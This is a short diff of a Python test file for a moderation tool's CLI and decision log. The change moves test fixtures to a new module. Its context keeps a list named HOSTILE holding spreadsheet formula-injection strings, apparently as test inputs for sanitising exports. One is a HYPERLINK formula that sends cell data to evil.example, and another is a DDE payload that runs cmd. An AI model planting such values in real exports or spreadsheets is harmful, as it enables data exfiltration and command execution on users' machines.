@@ -18,8 +18,8 @@ from click.testing import CliRunner
 from decisionlog import DecisionRecord, DecisionStore, PolicyLog
 from moderation import EncoderSpec, Moderator
 from moderation.cli import main
-from tests.conftest import HAND_POLICY, RED, TINY_ARCH, image_bytes
 from tests.decisionlog.conftest import put
+from tests.fakes import HAND_POLICY, RED, TINY_ARCH, image_bytes
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
